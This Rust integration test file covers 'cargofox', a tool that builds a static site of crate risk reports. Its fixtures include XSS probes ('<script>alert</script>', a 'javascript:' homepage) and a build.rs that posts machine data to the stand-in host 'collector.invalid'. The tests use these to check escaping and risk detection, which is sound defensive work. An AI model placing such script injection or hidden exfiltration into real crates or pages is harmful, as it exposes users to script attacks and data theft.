//! Whole builds through the binary: a fixture registry served over HTTP
//! becomes a site, checked page by page and JSON by JSON; builds are
//! deterministic and publish atomically; `--crate-dir`, `inspect --json`
//! and `serve` work.

mod common;

use std::path::Path;
use std::process::Output;

use common::{Fixture, FixtureRegistry, cargofox, gz_lines, json, ok, read, snapshot};

fn registry() -> FixtureRegistry {
    let old = Fixture::new("web-kit", "0.9.0", "description = \"Old\"");
    let mut yanked = Fixture::new("web-kit", "1.1.0", "");
    yanked.yanked = true;
    yanked.pubtime = Some("2026-03-01T00:00:00Z".into());
    let mut kit = Fixture::new(
        "web-kit",
        "1.0.0",
        "description = \"Tools <script>alert('x')</script> for the web\"\nlicense = \"MIT\"\nrepository = \"https://github.com/o/web-kit\"\nhomepage = \"javascript:alert(1)\"\nreadme = \"README.md\"",
    )
    .file("README.md", "# Web kit\n\nSee [the guide](docs/guide.md).\n\n<script>alert('readme')</script>\n")
    .file("build.rs", "fn main() {}\n")
    .dep("tiny", "^0.1", "normal", false)
    .dep("helper", "^2", "build", false)
    .dep("devonly", "^1", "dev", false);
    kit.features = serde_json::json!({"default": ["fast"], "fast": []});
    kit.pubtime = Some("2026-02-01T00:00:00Z".into());
    FixtureRegistry::start(
        &[
            old,
            kit,
            yanked,
            Fixture::new("tiny", "0.1.0", "description = \"Tiny\""),
            Fixture::new("helper", "2.0.0", ""),
            Fixture::new("devonly", "1.0.0", ""),
            Fixture::new("broken", "1.0.0", ""),
        ],
        &["broken"],
    )
}

fn build(dir: &Path, reg: &FixtureRegistry, out: &str, extra: &[&str]) -> Output {
    let index = reg.index_url();
    let mut args = vec![
        "build",
        "--index-url",
        &index,
        "--cache",
        "cache",
        "--out",
        out,
        "--base-url",
        "https://example.test/site/",
        "--index-max-age",
        "0",
    ];
    args.extend_from_slice(extra);
    cargofox(dir, &args)
}

#[test]
fn a_fixture_registry_becomes_a_site() {
    let reg = registry();
    let tmp = tempfile::tempdir().unwrap();
    let out = ok(build(
        tmp.path(),
        &reg,
        "public",
        &["--crates", "web-kit,broken", "--closure"],
    ));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(
        stderr.contains("4 crates (3 read, 1 with problems)"),
        "{stderr}"
    );
    let site = tmp.path().join("public");

    // The crate page.
    let page = read(site.join("crates/web-kit/index.html"));
    assert!(page.contains("web-kit") && page.contains("1.0.0"));
    let lead = &page[page.find("class=lead>").expect("a lead paragraph")..];
    assert!(
        lead.starts_with("class=lead>Tools &lt;script>"),
        "the description is escaped: {}",
        &lead[..60]
    );
    // The only other place it appears is a quoted attribute value, where it is text.
    assert_eq!(
        common::foreign_scripts(&page),
        page.matches("content=\"Tools <script>").count(),
        "no script element on the page but the site's search script"
    );
    assert!(
        !page.contains("javascript:"),
        "a javascript: homepage never becomes a link"
    );
    assert!(
        page.contains("https://github.com/o/web-kit/blob/HEAD/docs/guide.md"),
        "README links point at the repository"
    );
    assert!(
        page.contains("href=/site/crates/tiny/") || page.contains("href=\"/site/crates/tiny/\""),
        "dependencies on the site are linked"
    );
    assert!(page.contains("build.rs"));
    assert!(page.contains("yanked"));
    assert!(page.contains("Content-Security-Policy"));
    assert!(
        page.contains(&format!("http://{}/crates/web-kit", reg.addr)),
        "the registry page comes from config.json's api"
    );

    // Its sidecar.
    let kit = json(site.join("crates/web-kit.json"));
    assert_eq!(kit["schema_version"], 3);
    assert_eq!(kit["name"], "web-kit");
    assert_eq!(
        kit["version"], "1.0.0",
        "the yanked 1.1.0 is not the one reported"
    );
    assert_eq!(kit["license"], "MIT");
    let versions = kit["versions"].as_array().unwrap();
    assert_eq!(versions.len(), 3);
    assert_eq!(versions[2]["yanked"], true);
    assert_eq!(versions[1]["published"], "2026-02-01T00:00:00Z");
    let deps: Vec<(&str, &str)> = kit["dependencies"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| (d["kind"].as_str().unwrap(), d["name"].as_str().unwrap()))
        .collect();
    assert_eq!(
        deps,
        vec![("normal", "tiny"), ("build", "helper"), ("dev", "devonly")]
    );
    assert_eq!(kit["features"]["default"][0], "fast");
    assert_eq!(kit["code"]["languages"]["Rust"]["files"], 2);
    assert_eq!(kit["code"]["languages"]["Rust"]["code"], 4);
    assert_eq!(kit["package"]["checksum_verified"], true);
    assert!(kit["problems"].as_array().unwrap().is_empty());
    assert!(kit["generated_at"].as_str().unwrap().ends_with('Z'));
    assert!(kit.get("readme_text").is_none());

    // Its badge says the level and score of the sidecar, and the page gives
    // the snippet to show it, with the site's absolute address.
    let badge = read(site.join("crates/web-kit/badge.svg"));
    let said = format!(
        "cargofox: risk {} · {}/100",
        kit["risk"]["level"].as_str().unwrap(),
        kit["ranking"]["score"]
    );
    assert!(badge.contains(&format!("<title>{said}</title>")), "{badge}");
    assert!(page.contains(&format!(
        "[![cargofox: risk {}, score {}/100](https://example.test/site/crates/web-kit/badge.svg)](https://example.test/site/crates/web-kit/)",
        kit["risk"]["level"].as_str().unwrap(),
        kit["ranking"]["score"]
    )));

    let tiny = json(site.join("crates/tiny.json"));
    assert_eq!(tiny["dependents"][0], "web-kit");
    assert!(
        site.join("crates/helper/index.html").is_file(),
        "build dependencies are in the closure"
    );
    assert!(
        !site.join("crates/devonly.json").exists(),
        "dev dependencies are not"
    );

    // A crate that could not be had still gets a page that says why.
    let broken = json(site.join("crates/broken.json"));
    assert_eq!(broken["problems"][0]["code"], "checksum-mismatch");
    assert!(read(site.join("crates/broken/index.html")).contains("checksum-mismatch"));

    // Site-wide files.
    let index = json(site.join("index.json"));
    let names: Vec<&str> = index["crates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["name"].as_str().unwrap())
        .collect();
    assert_eq!(names, vec!["broken", "helper", "tiny", "web-kit"]);
    let home = read(site.join("index.html"));
    assert!(home.contains("/site/crates/web-kit/"));
    // Every crate is listed under its first letter, linked from `crates/`.
    let letters = read(site.join("crates/index.html"));
    for letter in ["b", "h", "t", "w"] {
        assert!(letters.contains(&format!("/site/letters/{letter}/")));
    }
    assert!(read(site.join("letters/t/index.html")).contains("Tiny"));
    let sitemap = read(site.join("sitemap.xml"));
    assert!(sitemap.contains("<loc>https://example.test/site/crates/tiny/</loc>"));
    assert!(
        read(site.join("robots.txt")).contains("Sitemap: https://example.test/site/sitemap.xml")
    );
    assert!(read(site.join("404.html")).contains("Not found"));
    for page in ["about", "methodology", "faq", "data"] {
        assert!(site.join(page).join("index.html").is_file(), "{page}");
    }
    assert!(
        read(site.join("methodology/index.html")).contains("checksum-mismatch"),
        "problem codes are documented"
    );
    assert!(site.join("theme/style.css").is_file());
}

#[test]
fn builds_are_deterministic_and_publish_atomically() {
    let reg = registry();
    let tmp = tempfile::tempdir().unwrap();
    ok(build(
        tmp.path(),
        &reg,
        "one",
        &["--crates", "web-kit", "--closure", "-j", "1"],
    ));
    ok(build(
        tmp.path(),
        &reg,
        "two",
        &["--crates", "web-kit", "--closure", "-j", "2"],
    ));
    let (a, b) = (
        snapshot(&tmp.path().join("one")),
        snapshot(&tmp.path().join("two")),
    );
    assert_eq!(a.len(), b.len());
    for ((pa, ca), (pb, cb)) in a.iter().zip(&b) {
        assert_eq!(pa, pb);
        assert!(ca == cb, "{} differs between two builds", pa.display());
    }

    // A build in which nothing could be read fails and leaves the site as it was.
    let before = snapshot(&tmp.path().join("one"));
    let out = build(tmp.path(), &reg, "one", &["--crates", "nosuchcrate"]);
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("left as it was"));
    assert_eq!(snapshot(&tmp.path().join("one")), before);
    let leftovers: Vec<_> = std::fs::read_dir(tmp.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .filter(|n| n.to_string_lossy().starts_with('.'))
        .collect();
    assert!(leftovers.is_empty(), "{leftovers:?}");

    // A later build replaces the site whole: a crate no longer selected is gone.
    ok(build(tmp.path(), &reg, "one", &["--crates", "tiny"]));
    assert!(!tmp.path().join("one/crates/web-kit.json").exists());
    assert!(tmp.path().join("one/crates/tiny.json").exists());
}

#[test]
fn a_folder_of_crate_files_builds_without_an_index_and_inspect_agrees() {
    let tmp = tempfile::tempdir().unwrap();
    let dir = tmp.path().join("mirror");
    std::fs::create_dir_all(dir.join("nested")).unwrap();
    let good = Fixture::new(
        "good",
        "1.0.0",
        "description = \"Good\"\n[dependencies]\ntiny = \"0.1\"",
    );
    std::fs::write(dir.join("good-1.0.0.crate"), good.crate_bytes()).unwrap();
    std::fs::write(dir.join("nested/bad-0.1.0.crate"), b"not a crate").unwrap();
    std::fs::write(
        dir.join("no version.crate"),
        Fixture::new("x", "1.0.0", "").crate_bytes(),
    )
    .unwrap();
    ok(cargofox(
        tmp.path(),
        &["build", "--crate-dir", "mirror", "--out", "site"],
    ));
    let site = tmp.path().join("site");
    let g = json(site.join("crates/good.json"));
    assert_eq!(g["description"], "Good");
    assert_eq!(
        g["dependencies"][0]["name"], "tiny",
        "dependencies come from the manifest"
    );
    assert_eq!(
        json(site.join("crates/bad.json"))["problems"][0]["code"],
        "archive-invalid"
    );
    let index = json(site.join("index.json"));
    let invalid = index["crates"]
        .as_array()
        .unwrap()
        .iter()
        .find(|c| c["name"] == "no version")
        .unwrap();
    assert_eq!(invalid["problems"], 2, "{invalid}");
    assert!(
        read(site.join("index.html")).contains("_invalid-"),
        "an invalid name gets a digest path"
    );

    // inspect --json prints the same document as the sidecar.
    let out = ok(cargofox(
        tmp.path(),
        &["inspect", "--json", "mirror/good-1.0.0.crate", "mirror"],
    ));
    let lines: Vec<serde_json::Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 4, "one file and a folder of three");
    let mut from_inspect = lines[0].clone();
    let mut sidecar = g.clone();
    for v in [&mut from_inspect, &mut sidecar] {
        v["generated_at"] = serde_json::Value::Null;
        // Figures relative to the set of crates, which differs: the site
        // holds three crates, inspect was given four (one twice).
        v["dependents"] = serde_json::json!([]);
        v["reverse_dependencies"] = serde_json::Value::Null;
        v["ranking"] = serde_json::Value::Null;
    }
    assert_eq!(from_inspect, sidecar);
    let text = ok(cargofox(
        tmp.path(),
        &["inspect", "mirror/good-1.0.0.crate"],
    ));
    let text = String::from_utf8(text.stdout).unwrap();
    assert!(text.starts_with("good 1.0.0\n  Good\n"), "{text}");
    assert!(text.contains("Rust: 3 code"), "{text}");
}

#[test]
fn serve_answers_with_content_types_csp_and_the_404_page() {
    let tmp = tempfile::tempdir().unwrap();
    let site = tmp.path().join("site");
    std::fs::create_dir_all(site.join("crates/a")).unwrap();
    std::fs::write(site.join("index.html"), "<p>home</p>").unwrap();
    std::fs::write(site.join("404.html"), "<p>missing page</p>").unwrap();
    std::fs::write(site.join("crates/a/index.html"), "<p>a</p>").unwrap();
    std::fs::write(site.join("crates/a.json"), "{}").unwrap();
    let big = format!(
        "[{}0]\n",
        "{\"name\": \"a\", \"level\": \"none\"},".repeat(200)
    );
    std::fs::write(site.join("crates/big.json"), &big).unwrap();
    std::fs::create_dir_all(site.join("theme")).unwrap();
    std::fs::write(site.join("theme/style.css"), "p { color: red; }\n").unwrap();
    let rt = tokio::runtime::Runtime::new().unwrap();
    rt.block_on(async {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(axum::serve(listener, cargofox::serve::router(site)).into_future());
        let get = |path: &str| {
            let url = format!("http://{addr}{path}");
            async move {
                let stream = tokio::net::TcpStream::connect(addr).await.unwrap();
                raw_get(stream, &url).await
            }
        };
        let (status, headers, body) = get("/").await;
        assert_eq!(status, 200);
        assert!(headers.contains("content-type: text/html"), "{headers}");
        assert!(
            headers.contains("content-security-policy: default-src 'none'"),
            "{headers}"
        );
        assert!(body.contains("home"));
        let (status, headers, _) = get("/crates/a.json").await;
        assert_eq!(status, 200);
        assert!(
            headers.contains("content-type: application/json"),
            "{headers}"
        );
        let (status, _, body) = get("/crates/a/").await;
        assert_eq!((status, body.as_str()), (200, "<p>a</p>"));
        let (status, _, body) = get("/nothing/here").await;
        assert_eq!(status, 404);
        assert!(body.contains("missing page"));

        // Through reqwest: compressed as the client asks, with cache
        // headers, and a revalidation answered 304.
        let _ = rustls::crypto::ring::default_provider().install_default();
        let client = reqwest::Client::builder().no_gzip().build().unwrap();
        let url = |path: &str| format!("http://{addr}{path}");
        let res = client
            .get(url("/crates/big.json"))
            .header("accept-encoding", "gzip")
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 200);
        let headers = res.headers().clone();
        assert_eq!(headers["content-encoding"], "gzip");
        assert_eq!(headers["cache-control"], cargofox::serve::PAGE_CACHE);
        let body = res.bytes().await.unwrap();
        assert!(body.len() * 4 < big.len(), "{} bytes", body.len());
        let mut plain = String::new();
        std::io::Read::read_to_string(&mut flate2::read::GzDecoder::new(&body[..]), &mut plain)
            .unwrap();
        assert_eq!(plain, big);
        let res = client
            .get(url("/crates/big.json"))
            .header("if-modified-since", headers["last-modified"].clone())
            .send()
            .await
            .unwrap();
        assert_eq!(res.status(), 304);
        let res = client.get(url("/theme/style.css")).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.headers()["cache-control"], cargofox::serve::THEME_CACHE);
        assert!(res.headers().get("content-encoding").is_none());
    });
}

/// A minimal HTTP/1.1 GET, so the test exercises the real server.
async fn raw_get(mut stream: tokio::net::TcpStream, url: &str) -> (u16, String, String) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let path = &url[url.find("://").unwrap() + 3..];
    let path = &path[path.find('/').unwrap()..];
    stream
        .write_all(
            format!("GET {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n")
                .as_bytes(),
        )
        .await
        .unwrap();
    let mut buf = Vec::new();
    stream.read_to_end(&mut buf).await.unwrap();
    let text = String::from_utf8_lossy(&buf).into_owned();
    let (head, body) = text.split_once("\r\n\r\n").unwrap();
    let status = head.split(' ').nth(1).unwrap().parse().unwrap();
    (status, head.to_ascii_lowercase(), body.to_owned())
}

#[test]
fn risk_findings_reach_the_page_the_evidence_the_report_and_the_feed() {
    // The pattern of a build script that phones home; it is never run.
    let phoning = Fixture::new("phoning-home", "0.1.0", "description = \"Colours\"\nrepository = \"https://github.com/o/ph\"").file(
        "build.rs",
        "fn main() {\n    // Reports the machine.\n    let _ = ureq::post(\"https://collector.invalid/report\").send_string(\"os\");\n}\n",
    );
    let reg = FixtureRegistry::start(
        &[
            phoning,
            Fixture::new("quiet", "1.0.0", "repository = \"https://github.com/o/q\""),
        ],
        &[],
    );
    let tmp = tempfile::tempdir().unwrap();
    ok(build(
        tmp.path(),
        &reg,
        "public",
        &["--crates", "phoning-home,quiet"],
    ));
    let site = tmp.path().join("public");
    let report = json(site.join("crates/phoning-home.json"));
    assert_eq!(report["risk"]["level"], "high");
    let finding = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["code"] == "build-network")
        .expect("build-network");
    assert_eq!(
        (
            finding["file"].as_str(),
            finding["line"].as_u64(),
            finding["location"].as_str()
        ),
        (Some("build.rs"), Some(3), Some("build"))
    );
    assert_eq!(finding["kind"], "fact");
    assert_eq!(
        json(site.join("crates/quiet.json"))["risk"]["level"],
        "none"
    );

    let page = read(site.join("crates/phoning-home/index.html"));
    let risk_at = page.find("id=risk").expect("a Risk section");
    assert!(
        risk_at < page.find("id=build").unwrap(),
        "the Risk section comes first"
    );
    assert!(page.contains("build-network") && page.contains("/site/methodology/#cap-network"));
    let evidence_dir = site.join("crates/phoning-home/evidence");
    let pages: Vec<_> = std::fs::read_dir(&evidence_dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().into_string().unwrap())
        .collect();
    assert_eq!(pages.len(), 1, "{pages:?}");
    assert!(
        page.contains(&format!(
            "/site/crates/phoning-home/evidence/{}#L3",
            pages[0]
        )),
        "the finding links to its line"
    );
    let evidence = read(evidence_dir.join(&pages[0]));
    assert!(
        evidence.contains("<tr class=hit id=L3>"),
        "line 3 is highlighted"
    );
    assert!(!evidence.contains("class=hit id=L2>"), "and no other");
    assert!(
        evidence.contains("collector.invalid"),
        "the source is shown"
    );
    assert_eq!(common::foreign_scripts(&evidence), 0, "and escaped");

    let report_page = read(site.join("report/index.html"));
    assert!(report_page.contains("/site/crates/phoning-home/#risk"));
    let feed = read(site.join("feed.xml"));
    assert!(
        feed.contains("<entry>")
            && feed.contains("phoning-home 0.1.0: high risk")
            && feed.contains("build-network")
    );
    assert!(!feed.contains("quiet"));
    assert!(
        tmp.path().join("cache/state/seen-findings.json").is_file(),
        "the next run's feed remembers what was seen"
    );
}

/// The reports of every crate, decompressed from `data/crates.ndjson.gz`.
fn bulk_reports(site: &Path) -> Vec<serde_json::Value> {
    gz_lines(&site.join("data/crates.ndjson.gz"))
        .iter()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect()
}

#[test]
fn the_data_files_hold_every_report_and_their_schemas_validate_them() {
    use sha2::Digest as _;
    use std::os::unix::fs::MetadataExt as _;
    let reg = registry();
    let tmp = tempfile::tempdir().unwrap();
    let crates = ["--crates", "web-kit,broken", "--closure"];
    ok(build(tmp.path(), &reg, "public", &crates));
    let site = tmp.path().join("public");

    // The reports file holds the sidecars, whole, in the order of index.json.
    let index = json(site.join("index.json"));
    let sidecars: Vec<serde_json::Value> = index["crates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| json(site.join(format!("crates/{}.json", c["name"].as_str().unwrap()))))
        .collect();
    assert_eq!(sidecars.len(), 4);
    assert_eq!(bulk_reports(&site), sidecars);

    // Every sidecar and index.json are valid against the published schemas,
    // checked by a JSON Schema validator; documents that break them are not.
    let crate_schema = json(site.join("data/crate.schema.json"));
    assert_eq!(
        crate_schema["$id"],
        "https://example.test/site/data/crate.schema.json"
    );
    let validator = jsonschema::validator_for(&crate_schema).unwrap();
    for s in &sidecars {
        let errors: Vec<String> = validator.iter_errors(s).map(|e| e.to_string()).collect();
        assert!(errors.is_empty(), "{}: {errors:?}", s["name"]);
    }
    let mut older = sidecars[0].clone();
    older["schema_version"] = 1.into();
    assert!(!validator.is_valid(&older));
    let mut broken = sidecars[0].clone();
    broken["risk"]["level"] = "severe".into();
    assert!(!validator.is_valid(&broken));
    let index_validator =
        jsonschema::validator_for(&json(site.join("data/index.schema.json"))).unwrap();
    assert!(index_validator.is_valid(&index));
    let mut no_crates = index.clone();
    no_crates.as_object_mut().unwrap().remove("crates");
    assert!(!index_validator.is_valid(&no_crates));

    // files.json lists each data file with its real size and digest, and the
    // data page links them.
    let listing = json(site.join("data/files.json"));
    let paths: Vec<&str> = listing["files"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| {
            let path = f["path"].as_str().unwrap();
            let bytes = std::fs::read(site.join(path)).unwrap();
            assert_eq!(f["size"], bytes.len(), "{path}");
            assert_eq!(
                f["sha256"].as_str().unwrap(),
                common::hex(&sha2::Sha256::digest(&bytes)),
                "{path}"
            );
            assert_eq!(f["generated_at"], index["generated_at"], "{path}");
            path
        })
        .collect();
    assert_eq!(
        paths,
        [
            "data/crates.ndjson.gz",
            "data/crate.schema.json",
            "index.json",
            "data/index.schema.json",
            "data/dependencies.csv.gz"
        ]
    );

    // The dependency table holds every dependency of every sidecar.
    let mut expected =
        vec!["crate,version,kind,dependency,req,optional,default_features,target".to_owned()];
    for s in &sidecars {
        for d in s["dependencies"].as_array().unwrap() {
            expected.push(format!(
                "{},{},{},{},{},{},{},{}",
                s["name"].as_str().unwrap(),
                s["version"].as_str().unwrap(),
                d["kind"].as_str().unwrap(),
                d["name"].as_str().unwrap(),
                d["req"].as_str().unwrap(),
                d["optional"],
                d["default_features"],
                d["target"].as_str().unwrap_or("")
            ));
        }
    }
    assert_eq!(gz_lines(&site.join("data/dependencies.csv.gz")), expected);
    let page = read(site.join("data/index.html"));
    for path in &paths {
        assert!(page.contains(&format!("href=/site/{path}>")), "{path}");
    }

    // Nothing new: the reports file is the published one, linked, and every
    // file keeps the time it was written.
    let inode = std::fs::metadata(site.join("data/crates.ndjson.gz"))
        .unwrap()
        .ino();
    std::thread::sleep(std::time::Duration::from_millis(1100));
    ok(build(tmp.path(), &reg, "public", &crates));
    assert_eq!(
        std::fs::metadata(site.join("data/crates.ndjson.gz"))
            .unwrap()
            .ino(),
        inode
    );
    let again = json(site.join("data/files.json"));
    let kept: Vec<&serde_json::Value> = again["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] != "index.json")
        .collect();
    let before: Vec<&serde_json::Value> = listing["files"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["path"] != "index.json")
        .collect();
    assert_eq!(kept, before);
}
